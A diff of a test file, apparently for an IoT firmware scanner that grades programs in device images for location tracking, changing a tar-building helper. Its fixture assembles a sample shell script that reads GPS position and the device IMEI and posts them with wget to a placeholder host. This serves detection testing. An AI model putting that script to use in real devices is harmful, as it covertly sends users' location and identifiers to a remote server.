@@ -8,7 +8,8 @@ from typing import Any
 import pytest
 
 from iotwatch.detect.known import project_of
-from tests.detect.images import CAPTURES, make_image, of, scanned
+from tests.detect.images import CAPTURES, of, scanned
+from tests.tars import make_tar
 
 READS = b"#!/bin/sh\nprintf 'AT+QGPSLOC=2\\r' >/dev/ttyUSB2\nimei=$(cat /run/imei)\n"
 SENDS = b'wget -q --post-data "$imei" '
@@ -16,7 +17,7 @@ FAR = b"http://ingest.fleet.example/v1\n"
 
 
 def grades(tree: dict[str, bytes], folder: Path) -> dict[str, str]:
-    found, _ = scanned([make_image(tree, folder / "image.tar")], folder)
+    found, _ = scanned([make_tar(folder / "image.tar", tree)], folder)
     return {row["subject"]: row["facts"]["grade"] for row in of(found, "program")}
 
 
@@ -46,7 +47,7 @@ def test_grade(tree: dict[str, bytes], expected: dict[str, str], tmp_path: Path)
 
 def test_severity_verdict_and_evidence(tmp_path: Path) -> None:
     script = READS + SENDS + FAR
-    found, verdict = scanned([make_image({"opt/up": script}, tmp_path / "image.tar")], tmp_path)
+    found, verdict = scanned([make_tar(tmp_path / "image.tar", {"opt/up": script})], tmp_path)
     (row,) = of(found, "program")
 
     assert (row["severity"], row["confidence"]) == ("high", "likely")
@@ -65,7 +66,7 @@ def corpus_tree(corpus: Path, name: str) -> dict[str, bytes]:
 
 @pytest.mark.corpus
 def test_a_real_daemon_is_grade_a_with_far_end_and_identities(corpus: Path, tmp_path: Path) -> None:
-    found, _ = scanned([make_image(corpus_tree(corpus, "mifi-wd670"), tmp_path / "image.tar")], tmp_path)
+    found, _ = scanned([make_tar(tmp_path / "image.tar", corpus_tree(corpus, "mifi-wd670"))], tmp_path)
     graded: dict[str, Any] = {row["subject"]: row for row in of(found, "program")}
 
     row = graded["app/bin/device_tracking"]
@@ -79,7 +80,7 @@ def test_a_real_daemon_is_grade_a_with_far_end_and_identities(corpus: Path, tmp_
 
 @pytest.mark.corpus
 def test_a_real_positioning_client_is_grade_a(corpus: Path, tmp_path: Path) -> None:
-    found, _ = scanned([make_image(corpus_tree(corpus, "quectel-rootfs"), tmp_path / "image.tar")], tmp_path)
+    found, _ = scanned([make_tar(tmp_path / "image.tar", corpus_tree(corpus, "quectel-rootfs"))], tmp_path)
     (row,) = [row for row in of(found, "program") if row["subject"] == "bin/xtwifi-client"]
 
     assert (row["facts"]["grade"], row["severity"], row["confidence"]) == ("A", "high", "possible")
@@ -88,7 +89,7 @@ def test_a_real_positioning_client_is_grade_a(corpus: Path, tmp_path: Path) -> N
 
 @pytest.mark.corpus
 def test_open_source_programs_are_never_a_or_b(corpus: Path, tmp_path: Path) -> None:
-    found, verdict = scanned([make_image(corpus_tree(corpus, "debian-host"), tmp_path / "image.tar")], tmp_path)
+    found, verdict = scanned([make_tar(tmp_path / "image.tar", corpus_tree(corpus, "debian-host"))], tmp_path)
 
     assert {row["facts"]["grade"] for row in of(found, "program")} <= {"C", "D"}
     assert verdict.startswith("capable")
